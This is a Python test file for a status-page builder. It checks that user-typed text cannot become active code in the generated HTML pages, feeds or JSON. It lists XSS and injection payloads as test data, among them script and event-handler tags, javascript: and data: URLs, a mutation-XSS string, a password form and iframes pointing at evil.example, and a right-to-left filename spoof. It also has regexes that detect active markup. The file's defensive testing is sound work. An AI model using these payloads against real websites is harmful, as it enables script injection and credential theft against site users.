"""Nothing that anybody typed can run, load, reverse or break anything in a public file."""

import json
import re
from dataclasses import replace
from xml.etree import ElementTree as Xml

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markupsafe import Markup

from broadcaster.store.status_page import build
from broadcaster.store.status_safety import safe_article, safe_text
from broadcaster.store.status_view import PublicAlert, PublicView
from tests.publishing.city import alert, told, view

HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jAvAsCrIpT&colon;alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<p style="position:fixed;inset:0" onclick="alert(1)">x</p>',
    "<iframe src=//evil.example></iframe>",
    "<form action=//evil.example><input name=password></form>",
    '<base href="//evil.example">',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "<style>@import '//evil.example'</style>",
    "</article></main></body><script>alert(1)</script>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    '"><script>alert(1)</script>',
    "{{ config }} {% for x in range(9) %}x{% endfor %}",
    "\u202egnp.exe",
    "bell \x07 nul \x00 line \u2028 half \ud83d end \ufffe",
)
ACTIVE = re.compile(
    r"<(script|iframe|object|embed|form|input|base|math|style(?!>:root))|\son\w+\s*=|javascript:|srcdoc|@import",
    re.IGNORECASE,
)
RUNNING = re.compile(
    r"<[^>]*(\son\w+\s*=|href=[\"']?\s*(javascript|data:text|vbscript)|src=[\"']?(//|https?:))", re.IGNORECASE
)


HARMLESS = re.compile(
    r"</?(html|body|header|main|footer|section|article|h[1-6]|p|ul|ol|li|a|b|strong|time|div|span|svg|path|img|br|em)\b"
)


def poisoned(text: str) -> PublicView:
    """A view with `text` in everything that a person may have typed."""
    one = alert(text=text)
    infos = tuple(
        replace(info, headline=text, event=text, instruction=text, description=text) for info in one.document.infos
    )
    bad = replace(
        one, document=replace(one.document, infos=infos), articles=dict.fromkeys(one.articles, f"<h2>{text}</h2>")
    )
    instruction = replace(told(), place={"nb": text}, command={"nb": text}, name={"nb": text})
    gone = replace(
        bad, document=replace(bad.document, identifier="flood-2"), token="abcdefg2", expires_at=one.published_at
    )
    return view(bad, gone, instructions=(instruction,), lifted=(replace(instruction, lifted_at=one.published_at),))


def without_own_head(page: str) -> str:
    return re.sub(r"<head>.*?</head>", "", page, flags=re.DOTALL)


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_typed_becomes_code_on_a_page(text: str) -> None:
    for path, page in build(poisoned(text)).files.items():
        if not path.endswith(".html"):
            continue
        assert "<script" not in page
        tags = re.findall(r"<[a-zA-Z/][^>]*>", without_own_head(page))
        for tag in tags:
            assert HARMLESS.match(tag), (path, tag)
            assert not RUNNING.match(tag), (path, tag)
            assert "style=" not in tag, (path, tag)


@pytest.mark.parametrize("text", HOSTILE)
def test_feeds_and_data_stay_well_formed(text: str) -> None:
    files = build(poisoned(text)).files
    for path in ("alerts.atom", "alerts.rss"):
        Xml.fromstring(files[path])
    json.loads(files["status.json"])
    for path, content in files.items():
        content.encode()
        assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\u202a-\u202e\u2066-\u2069]", content), path


def test_reversing_marks_go_and_the_direction_marks_of_arabic_stay() -> None:
    assert safe_text("a\u202eb\u2066c\u200fd") == "abc\u200fd"


def cleaned(html: str) -> Markup:
    return safe_article(html, 2, {"map.png": "../pictures/map.png"}, lambda _: Markup(""))


def test_an_alert_shows_its_own_pictures_only() -> None:
    kept = cleaned('<img src="map.png" alt="Map"><img src="https://status.example/pictures/map.png" alt="">')
    assert kept.count('src="../pictures/map.png"') == 2
    dropped = cleaned(
        '<img src="https://evil.example/x.png"><img src="//evil.example/x.png"><img src="../../../x/../../y.svg#a">'
    )
    assert "src=" not in dropped


def test_headings_fit_where_the_text_is_put() -> None:
    assert cleaned("<h4>a</h4><h5>b</h5><h6>c</h6>") == "<h2>a</h2><h3>b</h3><h4>c</h4>"
    assert cleaned("<h1>a</h1><h6>c</h6>") == "<h2>a</h2><h6>c</h6>"


@given(st.text(max_size=300))
def test_whatever_is_typed_the_cleaned_text_has_only_known_tags(text: str) -> None:
    found = cleaned(f"<p>{text}</p>")
    for tag in re.findall(r"<[a-zA-Z/][^>]*>", found):
        assert not ACTIVE.search(tag)


def test_the_rows_own_ids_are_never_printed() -> None:
    shown: PublicAlert = alert()
    assert not any(shown.id in text for text in build(view(shown, instructions=(told(),))).files.values())
